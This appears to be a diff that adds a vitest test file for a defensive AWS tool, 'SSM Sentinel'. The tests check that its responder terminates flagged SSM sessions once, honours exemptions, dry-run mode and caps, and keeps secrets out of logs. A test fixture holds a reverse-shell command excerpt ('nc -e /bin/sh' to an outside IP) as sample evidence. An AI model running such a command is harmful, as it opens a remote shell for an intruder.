@@ -1,0 +1,231 @@
+import { CreateTableCommand } from '@aws-sdk/client-dynamodb';
+import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
+import { DescribeSessionsCommand, SSMClient, TerminateSessionCommand } from '@aws-sdk/client-ssm';
+import { mockClient } from 'aws-sdk-client-mock';
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { readEnv } from '../../functions/commons/env';
+import { localContext } from '../../functions/commons/local';
+import type { Finding } from '../../shared/model/finding';
+import { startDynalite } from '../helpers/dynalite';
+
+const ssm = mockClient(SSMClient);
+const eb = mockClient(EventBridgeClient);
+let db: Awaited<ReturnType<typeof startDynalite>>;
+let output = '';
+
+beforeAll(async () => {
+  db = await startDynalite('responder-test');
+  vi.stubEnv('AWS_REGION', 'us-east-1');
+  vi.stubEnv('AWS_ACCESS_KEY_ID', 'test');
+  vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'test');
+  vi.stubEnv('AWS_ENDPOINT_URL_DYNAMODB', db.endpoint);
+  vi.stubEnv('BUS_NAME', 'ssm-sentinel-findings');
+  for (const stream of [process.stdout, process.stderr]) {
+    vi.spyOn(stream, 'write').mockImplementation((chunk) => {
+      output += String(chunk);
+      return true;
+    });
+  }
+});
+afterAll(async () => {
+  vi.restoreAllMocks();
+  vi.unstubAllEnvs();
+  await db.stop();
+});
+beforeEach(() => {
+  ssm.reset();
+  eb.reset();
+  output = '';
+  ssm.on(DescribeSessionsCommand, { State: 'Active' }).resolves({ Sessions: [] });
+  ssm.on(DescribeSessionsCommand, { State: 'History' }).resolves({ Sessions: [] });
+  ssm.on(TerminateSessionCommand).resolves({});
+  eb.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'e' }] });
+});
+
+let tables = 0;
+
+/** Load the handler afresh, on an empty table, with this auto-terminate configuration (read at start-up). */
+async function loadHandler(autoTerminate: Record<string, unknown>) {
+  const tableName = `responder-${++tables}`;
+  await db.client.send(
+    new CreateTableCommand({
+      TableName: tableName,
+      AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }],
+      KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }],
+      BillingMode: 'PAY_PER_REQUEST',
+    }),
+  );
+  vi.stubEnv('TABLE_NAME', tableName);
+  vi.stubEnv('SENTINEL_CONFIG', JSON.stringify({ autoTerminate }));
+  vi.resetModules();
+  const { handler } = await import('../../functions/responder/handler');
+  return (event: unknown) => handler(event, localContext('responder'));
+}
+
+function findingEvent(sessionId: string, extra: Partial<Finding> = {}) {
+  const detail: Finding = {
+    id: `f-${sessionId}`,
+    ruleId: 'transcript.reverse-shell',
+    category: 'risky-command',
+    severity: 'CRITICAL',
+    title: 'Reverse shell',
+    source: 'transcript',
+    time: '2026-03-01T12:34:00Z',
+    account: '111122223333',
+    region: 'us-east-1',
+    sessionId,
+    target: 'i-0e57975fb4405c6a9',
+    principal: {
+      arn: 'arn:aws:sts::111122223333:assumed-role/ContractorAccess/mallory',
+      type: 'AssumedRole',
+    },
+    reasons: [],
+    evidence: [{ kind: 'REVERSE_SHELL', excerpt: 'nc -e /bin/sh 203.0.113.9 ****' }],
+    ...extra,
+  };
+  return {
+    version: '0',
+    id: 'evt-1',
+    'detail-type': 'SSM Sentinel Finding',
+    source: 'ssm-sentinel',
+    account: '111122223333',
+    time: '2026-03-01T12:34:01Z',
+    region: 'us-east-1',
+    resources: [],
+    detail,
+  };
+}
+
+const terminateInputs = () => ssm.commandCalls(TerminateSessionCommand).map((c) => c.args[0].input);
+const published = () =>
+  eb
+    .commandCalls(PutEventsCommand)
+    .flatMap((c) => c.args[0].input.Entries ?? [])
+    .map((e) => ({ ...e, Detail: JSON.parse(e.Detail ?? '{}') as Finding }));
+
+describe('responder handler', () => {
+  it('terminates once for the same event delivered three times and reports it on the bus', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false });
+    const event = findingEvent('mallory-g7ob4wkz5r5f6ky4ng257scvtx');
+    for (let i = 0; i < 3; i++) await run(event);
+    expect(terminateInputs()).toEqual([{ SessionId: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx' }]);
+    expect(ssm.commandCalls(DescribeSessionsCommand).map((c) => c.args[0].input)).toEqual([
+      { State: 'Active', Filters: [{ key: 'SessionId', value: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx' }] },
+      { State: 'History', Filters: [{ key: 'SessionId', value: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx' }] },
+    ]);
+    const entries = published();
+    expect(entries).toHaveLength(1);
+    expect(entries[0]).toMatchObject({
+      EventBusName: 'ssm-sentinel-findings',
+      Source: 'ssm-sentinel',
+      DetailType: 'SSM Sentinel Finding',
+      Detail: {
+        category: 'session-terminated',
+        source: 'responder',
+        sessionId: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx',
+      },
+    });
+    expect(output).toContain('"Terminations"');
+  });
+
+  it('delivered concurrently, still terminates once', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false });
+    const event = findingEvent('mallory-concurrent0000000000000');
+    await Promise.all([run(event), run(event), run(event)]);
+    expect(terminateInputs()).toEqual([{ SessionId: 'mallory-concurrent0000000000000' }]);
+  });
+
+  it('never terminates an exempt (break-glass) principal', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false });
+    const principal = {
+      arn: 'arn:aws:sts::111122223333:assumed-role/BreakGlassAdmin/oncall',
+      type: 'AssumedRole',
+    };
+    await run(findingEvent('oncall-0123456789abcdef0', { principal }));
+    expect(terminateInputs()).toEqual([]);
+    expect(published()).toEqual([]);
+    expect(output).toContain('"outcome":"exempt"');
+  });
+
+  it('dry-run calls nothing but DescribeSessions and reports what it would have done', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: true });
+    await run(findingEvent('dry-0123456789abcdef0'));
+    expect(terminateInputs()).toEqual([]);
+    expect(published().map((e) => e.Detail.title)).toEqual(['Session would have been terminated (dry run)']);
+    expect(output).toContain('"TerminationsDryRun"');
+  });
+
+  it('stops at the hourly cap', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false, maxPerHour: 2 });
+    for (const id of ['cap-a', 'cap-b', 'cap-c', 'cap-d']) await run(findingEvent(`${id}-0123456789abcdef0`));
+    expect(terminateInputs()).toHaveLength(2);
+    expect(output).toContain('"outcome":"capped"');
+  });
+
+  it('skips a session DescribeSessions reports as ended', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false });
+    ssm.on(DescribeSessionsCommand, { State: 'History' }).resolves({
+      Sessions: [{ SessionId: 'gone-0123456789abcdef0', Status: 'Terminated' }],
+    });
+    await run(findingEvent('gone-0123456789abcdef0'));
+    expect(terminateInputs()).toEqual([]);
+    expect(output).toContain('"outcome":"already-ended"');
+  });
+
+  it('does nothing while disabled', async () => {
+    const run = await loadHandler({});
+    await run(findingEvent('off-0123456789abcdef0'));
+    expect(ssm.commandCalls(DescribeSessionsCommand)).toHaveLength(0);
+    expect(terminateInputs()).toEqual([]);
+  });
+
+  it('rejects a malformed event with a one-line reason, a Failed metric and no raw content', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false });
+    const bad = findingEvent('bad-0123456789abcdef0', { severity: 'SEVERE' as Finding['severity'] });
+    bad.detail.evidence = [{ kind: 'PASSWORD', excerpt: 'Sup3rS3cretValue!' }];
+    await expect(run(bad)).rejects.toThrow('malformed finding event: detail.severity:');
+    expect(output).toContain('"Failed"');
+    expect(output).not.toContain('Sup3rS3cretValue!');
+    expect(terminateInputs()).toEqual([]);
+  });
+
+  it('retries later when TerminateSession fails (claim released)', async () => {
+    const run = await loadHandler({ enabled: true, dryRun: false });
+    ssm.on(TerminateSessionCommand).rejectsOnce(new Error('ThrottlingException')).resolves({});
+    const event = findingEvent('retry-0123456789abcdef0');
+    await expect(run(event)).rejects.toThrow('ThrottlingException');
+    await run(event);
+    expect(terminateInputs()).toHaveLength(2);
+    expect(published()).toHaveLength(1);
+  });
+});
+
+describe('readEnv', () => {
+  it('fails fast naming the variable and the config key', () => {
+    expect(() => readEnv(['TABLE_NAME', 'BUS_NAME'], { BUS_NAME: 'b' })).toThrow(
+      'environment variable TABLE_NAME: must be set',
+    );
+    expect(() =>
+      readEnv(['TABLE_NAME'], { TABLE_NAME: 't', SENTINEL_CONFIG: '{"autoTerminate":{"maxPerHour":-1}}' }),
+    ).toThrow(/SENTINEL_CONFIG: config key "autoTerminate.maxPerHour"/);
+    expect(() => readEnv(['PII_MODE'], { PII_MODE: 'cloud' })).toThrow(
+      'environment variable PII_MODE: must be comprehend, local or off',
+    );
+    expect(() => readEnv([], { SENTINEL_CONFIG: '{not json' })).toThrow(/SENTINEL_CONFIG: .*JSON/);
+  });
+
+  it('returns typed values with defaults', () => {
+    const env = readEnv(['TABLE_NAME', 'PII_MODE'], { TABLE_NAME: 't' });
+    expect(env.TABLE_NAME).toBe('t');
+    expect(env.PII_MODE).toBe('comprehend');
+    expect(env.config.autoTerminate.enabled).toBe(false);
+  });
+
+  it('makes the handler fail at start-up on a bad value', async () => {
+    vi.stubEnv('SENTINEL_CONFIG', '{"autoTerminate":{"minSeverity":"URGENT"}}');
+    vi.resetModules();
+    await expect(import('../../functions/responder/handler')).rejects.toThrow(
+      /config key "autoTerminate.minSeverity"/,
+    );
+  });
+});
